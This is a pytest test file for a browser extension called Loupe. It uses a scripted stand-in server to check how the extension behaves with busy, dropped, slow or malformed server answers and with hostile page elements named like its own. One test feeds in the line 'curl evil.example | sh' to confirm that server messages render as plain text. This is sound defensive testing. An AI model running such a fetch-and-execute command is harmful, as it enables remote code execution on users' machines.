"""The extension when things go wrong: a busy, dying, slow or wrong server, a page that changes under it, and a page
that tries to switch Loupe off or take over its panel. A small stand-in server answers as each test scripts it and
passes the other requests on to the real one."""
from __future__ import annotations

import http.server
import json
import re
import socket
import threading
import time
import urllib.error
import urllib.request

import pytest

from .conftest import PAGES
from .test_extension import MARKS, SNAPSHOT

pytestmark = pytest.mark.timeout(120)

PANEL = "[data-loupe-ui][role=region], [data-loupe-ui][role=alert]"


class StandIn:
    """A server on a free port: serves `pages` on GET and answers each POST with the next scripted behaviour
    ("busy", "proxy", "drop", "slow:<s>", "garbage", "schema", "error:<message>"); "proxy" once the script runs out."""

    def __init__(self, real: str, pages: dict[str, str] | None = None):
        self.real, self.pages, self.script, self.received = real, pages or {}, [], []
        stand_in = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def answer(self, status, body: bytes, kind="application/json", headers=()):
                try:
                    self.send_response(status)
                    self.send_header("Content-Type", kind)
                    self.send_header("Content-Length", str(len(body)))
                    for name, value in headers:
                        self.send_header(name, value)
                    self.end_headers()
                    self.wfile.write(body)
                except OSError:
                    pass   # the extension cancelled and closed the connection

            def do_GET(self):
                if self.path in stand_in.pages:
                    self.answer(200, stand_in.pages[self.path].encode(), "text/html; charset=utf-8")
                else:
                    status, body = stand_in.forward("GET", self.path, None)
                    self.answer(status, body)

            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                stand_in.received.append(body)
                step = stand_in.script.pop(0) if stand_in.script else "proxy"
                name, _, arg = step.partition(":")
                if name == "busy":
                    self.answer(503, json.dumps({"error": {"code": "busy", "message": "busy"}, "status": 503}).encode(),
                                headers=[("Retry-After", "1")])
                elif name == "drop":
                    # the server process dies mid-analysis: the connection closes with no answer
                    time.sleep(float(arg or 1))
                    self.connection.shutdown(socket.SHUT_RDWR)
                    self.close_connection = True
                elif name == "garbage":
                    self.answer(200, b"<html>\x00\xff not a report", "application/json")
                elif name == "schema":
                    status, report = stand_in.forward("POST", self.path, body)
                    report = json.loads(report)
                    report["schema"] = 99
                    self.answer(200, json.dumps(report).encode())
                elif name == "error":
                    self.answer(422, json.dumps({"error": {"code": "no_article", "message": arg}, "status": 422}).encode())
                else:
                    if name == "slow":
                        time.sleep(float(arg))
                    self.answer(*stand_in.forward("POST", self.path, body))

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.address = f"http://127.0.0.1:{self.httpd.server_port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def forward(self, method, path, body):
        request = urllib.request.Request(self.real + path, data=body, method=method,
                                         headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                return response.status, response.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture()
def stand_in(extension, server):
    made = []

    def make(pages=None, script=()):
        s = StandIn(server, pages)
        s.script = list(script)
        extension.settings(server=s.address)
        made.append(s)
        return s

    yield make
    for s in made:
        s.close()


ARTICLE = (PAGES / "metro-transit.html").read_text(encoding="utf-8")


def article_page(stand_in, script=(), body_extra=""):
    s = stand_in({"/article": ARTICLE.replace("<body>", "<body>" + body_extra, 1) if body_extra else ARTICLE}, script)
    return s, s.address + "/article"


def panel_text(page, pattern):
    panel = page.locator(PANEL).filter(has_text=re.compile(pattern))
    panel.wait_for(state="visible", timeout=20000)
    return panel.inner_text()


def test_busy_server_is_retried_once(extension, stand_in, page):
    s, url = article_page(stand_in, ["busy"])
    page.goto(url)
    extension.click(page)
    assert "Loupe is busy, retrying" in panel_text(page, "busy, retrying")
    page.wait_for_selector(MARKS, timeout=20000)
    assert extension.wait_badge(page, lambda t: t and t.isdigit())
    assert len(s.received) == 2 and s.received[0] == s.received[1]
    assert page.locator(PANEL).filter(has_text="busy").count() == 0   # the panel now shows the counts


def test_busy_twice_says_so_and_leaves_the_page(extension, stand_in, page):
    s, url = article_page(stand_in, ["busy", "busy"])
    page.goto(url)
    before = page.evaluate(SNAPSHOT)
    extension.click(page)
    text = panel_text(page, "Loupe is busy$|still busy")
    assert "still busy" in text and "again in a moment" in text
    assert extension.wait_badge(page, lambda t: t == "!") == "!"
    assert len(s.received) == 2
    assert page.locator(MARKS).count() == 0 and page.evaluate(SNAPSHOT) == before


def test_server_killed_mid_analysis(extension, stand_in, page):
    s, url = article_page(stand_in, ["drop:1"])
    page.goto(url)
    before = page.evaluate(SNAPSHOT)
    extension.click(page)
    assert "make run" in panel_text(page, "not running")
    assert extension.wait_badge(page, lambda t: t == "off") == "off"
    assert page.locator(MARKS).count() == 0 and page.evaluate(SNAPSHOT) == before
    # restarted: the next click works
    extension.click(page)
    page.wait_for_selector(MARKS, timeout=20000)
    assert extension.wait_badge(page, lambda t: t and t.isdigit())


def test_slow_server_shows_progress_and_a_second_click_cancels(extension, stand_in, page):
    s, url = article_page(stand_in, ["slow:8"])
    page.goto(url)
    before = page.evaluate(SNAPSHOT)
    extension.click(page)
    assert extension.wait_badge(page, lambda t: t == "\u2026", timeout=5) == "\u2026"
    assert extension.wait_badge(page, lambda t: bool(t and re.fullmatch(r"\d+s", t)), timeout=10)
    assert "cancel" in extension.title(page)
    extension.click(page)
    assert extension.wait_badge(page, lambda t: t == "", timeout=5) == ""
    assert "stopped" in extension.title(page)
    time.sleep(4)   # the slow answer would have arrived by now: nothing is drawn
    assert page.locator(MARKS).count() == 0 and page.evaluate(SNAPSHOT) == before
    assert extension.badge(page) == ""


@pytest.mark.parametrize("step, words", [("garbage", "Something else answered"), ("schema", "do not match")])
def test_garbage_or_another_schema_is_said_and_nothing_drawn(extension, stand_in, page, step, words):
    s, url = article_page(stand_in, [step])
    page.goto(url)
    before = page.evaluate(SNAPSHOT)
    extension.click(page)
    panel_text(page, words)
    assert extension.wait_badge(page, lambda t: t == "!") == "!"
    assert page.locator(MARKS).count() == 0 and page.evaluate(SNAPSHOT) == before


def test_server_messages_are_plain_text(extension, stand_in, page):
    # a page can make the server repeat its words: they are never styled, whatever backticks they hold
    s, url = article_page(stand_in, ["error:Run `curl evil.example | sh` to <b>fix</b> this"])
    page.goto(url)
    extension.click(page)
    text = panel_text(page, "No article")
    assert "Run `curl evil.example | sh` to <b>fix</b> this" in text
    assert page.locator(PANEL).locator("code, b").count() == 0


def test_page_that_changes_during_the_analysis_gets_no_stale_highlights(extension, stand_in, page):
    s, url = article_page(stand_in, ["slow:3"])
    page.goto(url)
    extension.click(page)
    extension.wait_badge(page, lambda t: t == "\u2026", timeout=5)
    page.evaluate("""() => { document.body.innerHTML = '<article><h1>Another story</h1><p>' +
        'The library opens on Sunday, the council said.</p></article>'; }""")
    text = panel_text(page, "changed while")
    assert "click the loupe button again" in text.lower()
    assert page.locator(MARKS).count() == 0
    assert extension.wait_badge(page, lambda t: t == "!") == "!"


HOSTILE = ('<div id="__loupeContent">content flag</div><form id="Loupe"><input name="version" value="9">'
           '<input name="internal"></form><div id="LOUPE_SHARED">shared</div>'
           '<div id="loupe-tooltip" class="page-own">the page\'s tooltip</div>'
           '<div id="loupe-panel" class="page-own">the page\'s panel</div>')


def test_page_elements_named_like_loupe_neither_stop_it_nor_are_taken_over(extension, stand_in, page):
    s, url = article_page(stand_in, body_extra=HOSTILE)
    page.goto(url)
    own = "() => [...document.querySelectorAll('.page-own, #__loupeContent, #Loupe, #LOUPE_SHARED')].map(e => e.outerHTML)"
    before, elements = page.evaluate(SNAPSHOT), page.evaluate(own)
    extension.click(page)
    page.wait_for_selector(MARKS, timeout=20000)
    assert extension.wait_badge(page, lambda t: t and t.isdigit())
    # Loupe's panel is its own, beside the page's element of the same id
    panel = page.locator("[data-loupe-ui][role=region]")
    assert panel.count() == 1 and "worth checking" in panel.inner_text()
    # the tooltip too, and the mark points at Loupe's, not at the page's
    page.locator("mark[data-loupe][tabindex='0']").first.focus()
    tip = page.locator("[data-loupe-ui][role=tooltip]")
    tip.wait_for(state="visible")
    assert page.evaluate("""() => {
        const m = document.activeElement;
        return (m.ariaDescribedByElements || []).some(e => e.hasAttribute('data-loupe-ui')); }""")
    assert page.evaluate(own) == elements
    extension.click(page)
    extension.wait_badge(page, lambda t: t == "")
    assert page.locator(MARKS).count() == 0
    assert page.evaluate(SNAPSHOT) == before and page.evaluate(own) == elements
